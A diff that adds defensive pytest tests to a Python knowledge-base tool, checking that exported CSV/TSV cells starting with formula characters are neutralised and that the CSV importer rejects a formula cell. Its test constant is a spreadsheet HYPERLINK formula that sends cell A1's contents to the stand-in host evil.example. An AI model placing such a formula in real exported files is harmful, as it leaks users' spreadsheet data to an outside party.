@@ -194,3 +194,43 @@ def test_a_failing_remote_service_is_named_as_such(tmp_path):
     assert result.exit_code == 1
     assert result.stderr.startswith(f"Error: a remote SERVICE named in {query} failed: ")
     assert result.stderr.strip().endswith("the endpoint it calls is down or refused the request")
+
+
+# --- CSV formula injection ----------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.mark.parametrize("fmt, sep", [("csv", ","), ("tsv", "\t")])
+def test_formulas_are_neutralised_in_csv_and_tsv(tmp_path, fmt, sep):
+    data = tmp_path / "names.ttl"
+    names = [FORMULA, "+1", "-2+3", "@SUM(A1)", "\tTAB", "plain"]
+    data.write_text("".join(f'<http://example.org/p{i}> <http://example.org/name> {json.dumps(n)} ; '
+                            f'<http://example.org/n> {-i} .\n' for i, n in enumerate(names)), encoding="utf-8")
+    query = tmp_path / "names.rq"
+    query.write_text("SELECT ?name ?n WHERE { ?p <http://example.org/name> ?name ; <http://example.org/n> ?n } ORDER BY DESC(?n)")
+    result = kb("--data", data, "sparql", query, "--format", fmt)
+    assert result.exit_code == 0, result.stderr
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(result.stdout), delimiter=sep))
+    assert [r[0] for r in rows[1:]] == ["'" + FORMULA, "'+1", "'-2+3", "'@SUM(A1)", "'\tTAB", "plain"]
+    assert [r[1] for r in rows[1:]] == ["0", "-1", "-2", "-3", "-4", "-5"]  # numbers stay numbers
+
+
+def test_import_csv_refuses_a_formula_with_row_and_column(tmp_path):
+    from stedenbanden.errors import KbError
+    from stedenbanden.importers import kb_index, read_links_csv
+    from stedenbanden.resources import data_files
+    from stedenbanden import store
+
+    path = tmp_path / "links.csv"
+    path.write_text("cbs_code,partner,partner_country,status,evidence\n"
+                    "GM0599,Fez,MA,documented,https://example.org/a\n"
+                    f"GM0599,\"{FORMULA.replace(chr(34), chr(34) * 2)}\",MA,documented,https://example.org/b\n",
+                    encoding="utf-8")
+    with pytest.raises(KbError) as caught:
+        read_links_csv(path, kb_index(store.load(store.knowledge_base_files())))
+    assert str(caught.value) == (f"{path}, row 3, column partner: {FORMULA!r} starts with '=', which a spreadsheet "
+                                 "runs as a formula; remove that first character")
